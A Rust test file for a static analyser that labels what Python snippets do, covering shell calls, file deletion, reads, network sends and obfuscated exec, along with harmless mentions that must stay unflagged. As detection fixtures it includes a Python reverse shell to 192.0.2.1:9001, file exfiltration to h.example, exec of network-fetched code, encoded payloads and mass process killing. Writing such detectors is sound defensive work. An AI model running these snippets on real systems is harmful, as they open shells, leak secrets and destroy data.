//! Texts of Python.

use crate::table::{check, lines};
use checkrein_code::Language;

#[test]
fn acts() {
    check(
        Language::Python,
        &[
            ("import os; os.system('ls -l /x')", &["shell ls -l /x"]),
            ("import subprocess\nsubprocess.run(['git', 'gc'])", &["run git | gc"]),
            ("import subprocess; subprocess.run('a | b', shell=True)", &["shell a | b"]),
            ("import subprocess; subprocess.check_output('date')", &["run date"]),
            (
                "import subprocess; subprocess.Popen(['make', t], cwd='/src')",
                &["run env | -C | /src | make | «?»"],
            ),
            ("import subprocess; subprocess.run(args=['a'], shell=False)", &["run a"]),
            ("import os; os.execvp('ls', ['ls', '-l'])", &["run ls | -l"]),
            ("import os; os.execl('/bin/ls', 'ls', '-l')", &["run /bin/ls | -l"]),
            ("import shutil; shutil.rmtree('/srv/x', ignore_errors=True)", &["delete -r /srv/x"]),
            ("import shutil; shutil.rmtree(path='/srv/x')", &["delete -r /srv/x"]),
            (
                "import os; os.remove('a'); os.unlink('b'); os.rmdir('c')",
                &["delete a", "delete b", "delete c"],
            ),
            ("from pathlib import Path; Path('/a', 'b').unlink(missing_ok=True)", &["delete /a/b"]),
            ("open('out.txt', 'w').write('x')", &["write out.txt", "fill out.txt : x"]),
            ("with open('log', mode='a') as f:\n    f.write('x')", &["append log", "fill log : x"]),
            ("open('data.json').read()", &["read data.json"]),
            (
                "from pathlib import Path\nPath('a').write_text('x')\nPath('b').read_text()",
                &["write a", "fill a : x", "read b"],
            ),
            ("import os; os.truncate('x', 0)", &["write x"]),
            ("import os, shutil; os.rename('a', 'b'); shutil.copy('c', 'd')", &["move a | b", "copy c | d"]),
            ("import os; os.symlink('/etc', 'e')", &["link e | /etc"]),
            ("import os; os.chmod('/x', 0o777); os.chown('/y', 0, 0)", &["mode 777 /x", "owner /y"]),
            ("import os, signal; os.kill(1, signal.SIGKILL)", &["kill"]),
            ("import os\nfor p in os.listdir('/proc'):\n    os.kill(int(p), 9)", &["kill listed"]),
            ("import os\nfor p in os.listdir('/run/app'):\n    os.kill(int(p), 9)", &["kill"]),
            ("import psutil\nfor p in psutil.process_iter(): p.kill()", &["processes", "kill listed"]),
            ("import runpy; runpy.run_path('job.py')", &["run python3 | job.py"]),
            ("import operator, os; operator.methodcaller('system', 'ls -l')(os)", &["indirect ls -l"]),
            ("import ctypes; ctypes.CDLL(None).system(b'ls -l')", &["shell ls -l"]),
            ("import platform; print(platform.system())", &[]),
            ("import os; print([k for k in os.environ if k.startswith('CI')])", &[]),
            ("import os\nfor k in os.environ:\n    print(k, os.environ[k])", &["environment"]),
            ("import os\nfor k in os.environ:\n    print(k, os.environ.get(k))", &["environment"]),
            ("from sqlalchemy import text\nc.execute(text('select 1 from t'))", &["query select 1 from t"]),
            ("import os\nfor p in range(2, 99): os.kill(p, 9)", &["kill", "kill counted"]),
            ("import os\nfor n in range(3): os.kill(int(open('p').read()), 0)", &["read p", "kill"]),
            (
                "import urllib.request as u; u.urlopen('https://h.example/x')",
                &["connect https://h.example/x"],
            ),
            (
                "import requests; print(requests.get('https://h.example').text)",
                &["connect https://h.example"],
            ),
            (
                "import requests; requests.post('https://h.example', data=open('/k').read())",
                &["read /k", "send https://h.example : /k"],
            ),
            (
                "import requests\nf = open('/k', 'rb')\nrequests.post('https://h.example', files={'f': f})",
                &["read /k", "send https://h.example : /k"],
            ),
            (
                "import requests\nk = open('/k').read()\nrequests.get(f'https://h.example/?q={k}')",
                &["read /k", "send https://h.example/?q=«?» : /k"],
            ),
            ("import os; print(os.environ)", &["environment"]),
            ("import os\nfor k, v in os.environ.items():\n    print(k, v)", &["environment"]),
            (
                "import socket\ns = socket.socket()\ns.connect(('h.example', 80))\ns.sendall(open('/k').read())",
                &["connect h.example:80", "read /k", "send h.example:80 : /k"],
            ),
            (
                "import os\nos.chdir('/srv')\nos.remove('x')\nos.system('ls')",
                &["delete /srv/x", "shell cd '/srv' && ls"],
            ),
        ],
    );
}

#[test]
fn values_are_followed() {
    check(
        Language::Python,
        &[
            ("x = '/srv'; shutil.rmtree(x)", &["delete -r /srv"]),
            ("import shutil as s; s.rmtree('/x')", &["delete -r /x"]),
            ("from shutil import rmtree as r\nr('/x')", &["delete -r /x"]),
            ("from os import *\nsystem('ls')", &["shell ls"]),
            ("__import__('os').system('ls')", &["shell ls"]),
            ("getattr(__import__('os'), 'sys' + 'tem')('ls')", &["shell ls"]),
            ("import importlib; importlib.import_module('o' 's').system('ls')", &["shell ls"]),
            ("import os; f = os.system; f('ls')", &["shell ls"]),
            ("import os; (lambda c: os.system(c))", &["shell «?»"]),
            ("import os; run = lambda c: os.system(c)\nrun('ls')", &["shell ls"]),
            (
                "import os\ndef wipe(p, q='/q'):\n    os.remove(p)\n    os.remove(q)\nwipe('/p')",
                &["delete /p", "delete /q"],
            ),
            ("import os\ndef where():\n    return '/w'\nos.remove(where())", &["delete /w"]),
            ("import os; os.remove(os.path.join('/a', b, 'c'))", &["delete /a/«?»/c"]),
            ("import os; os.remove(os.path.join('/a', '/b'))", &["delete /b"]),
            ("import os; os.remove(os.path.expanduser('~/x'))", &["delete «home»/x"]),
            ("from pathlib import Path; (Path.home() / 'x' / 'y').unlink()", &["delete «home»/x/y"]),
            ("import os; os.remove(os.environ['HOME'] + '/x')", &["delete «home»/x"]),
            ("import os; os.remove(f\"{os.environ.get('HOME')}/x\")", &["delete «home»/x"]),
            ("import os; os.remove('%s/%s' % ('/a', 'b'))", &["delete /a/b"]),
            ("import os; os.remove('{}/b'.format('/a'))", &["delete /a/b"]),
            ("import os; os.remove(''.join(['/a', '/b']))", &["delete /a/b"]),
            ("import os; os.system('sl'[::-1])", &["shell ls"]),
            ("import os; os.system(chr(108) + chr(115))", &["shell ls"]),
            (
                "import pathlib, shutil\nfor p in pathlib.Path('/').iterdir():\n    shutil.rmtree(p)",
                &["delete -r /«*»"],
            ),
            ("import os, glob\n[os.remove(f) for f in glob.glob('/x/*.log')]", &["delete /x/«*».log"]),
            ("import os\nfor f in os.listdir('/x'):\n    os.remove('/x/' + f)", &["delete /x/«*»"]),
            ("import os\nfor e in os.scandir('/x'): os.remove(e.path)", &["delete /x/«*»"]),
            (
                "import os\nfor root, dirs, files in os.walk('/x'):\n  for f in files:\n    os.remove(os.path.join(root, f))",
                &["delete /x/«*»"],
            ),
            ("import os\nfor p in ['/a', '/b']: os.remove(p)", &["delete /a", "delete /b"]),
            ("import os\nx = '/a'\nif c:\n    x = '/b'\nos.remove(x)", &["delete /a", "delete /b"]),
            ("import os; os.remove('/a' if c else '/b')", &["delete /a", "delete /b"]),
            ("import os\nlist(map(os.remove, ['/a']))", &["delete /a"]),
            (
                "import os\nclass A:\n    def __init__(self):\n        self.p = '/a'\n    def go(self):\n        os.remove(self.p)",
                &["delete /a"],
            ),
        ],
    );
}

#[test]
fn evaluates() {
    check(
        Language::Python,
        &[
            ("exec(\"import os; os.system('ls')\")", &["shell ls"]),
            ("eval(compile(\"__import__('os').system('ls')\", 'x', 'exec'))", &["shell ls"]),
            ("import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImxzIik='))", &["shell ls"]),
            (
                "exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d28226c732229').decode())",
                &["shell ls"],
            ),
            ("import codecs; exec(codecs.decode('vzcbeg bf; bf.flfgrz(\"yf\")', 'rot13'))", &["shell ls"]),
            ("import zlib, base64; exec(zlib.decompress(base64.b64decode('eJw=')))", &["evaluate decoded"]),
            (
                "import urllib.request as u; exec(u.urlopen('http://h/x').read())",
                &["connect http://h/x", "evaluate network"],
            ),
            ("exec(input())", &["evaluate input"]),
            ("import sys, os\nfor line in sys.stdin: os.system(line)", &["evaluate input", "shell «?»"]),
            ("import os, atexit; atexit.register(os.system, 'rm x')", &["shell rm x"]),
            (
                "import os, threading; threading.Thread(target=os.system, args=('rm x',)).start()",
                &["shell rm x"],
            ),
            ("import atexit; atexit.register(print, 'rm x')", &[]),
            ("f = g(); f('rm x')", &["indirect rm x"]),
            ("judge('rm x'); m.judge('rm x')", &[]),
            ("exec(open('x.py').read())", &["read x.py", "evaluate unknown"]),
            (
                "import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",9001));os.dup2(s.fileno(),0);\
                 import pty; pty.spawn(\"/bin/bash\")",
                &["connect 192.0.2.1:9001", "run /bin/bash"],
            ),
        ],
    );
}

#[test]
fn mentions() {
    for source in [
        "print('rm -rf /')",
        "# os.system('ls')",
        "'''os.system('ls')'''",
        "def f():\n    \"\"\"Calls shutil.rmtree('/x').\"\"\"\n    return 1",
        "import re; re.sub(r'os\\.system\\(', 'x', text)",
        "x = \"os.system('ls')\"\nprint(x)",
        "import json, sys\nprint(json.dumps({'a': 1}))",
        "import os; print(os.environ['PATH'], os.getcwd())",
        "import os; env = dict(os.environ, X='1')",
        "xs = [1, 2]; xs.remove(1); d = {}; d.pop('a')",
        "print('a'.replace('b', 'c'))",
        "import sys; print(sys.version)",
        "f\"{{os.system('ls')}}\"",
        "import platform; print(platform.system())",
        "a.system('ls')",
        "button.connect('clicked', f); node.replace(other); archive.open(name)",
    ] {
        assert_eq!(lines(Language::Python, source), [""; 0], "{source}");
    }
}
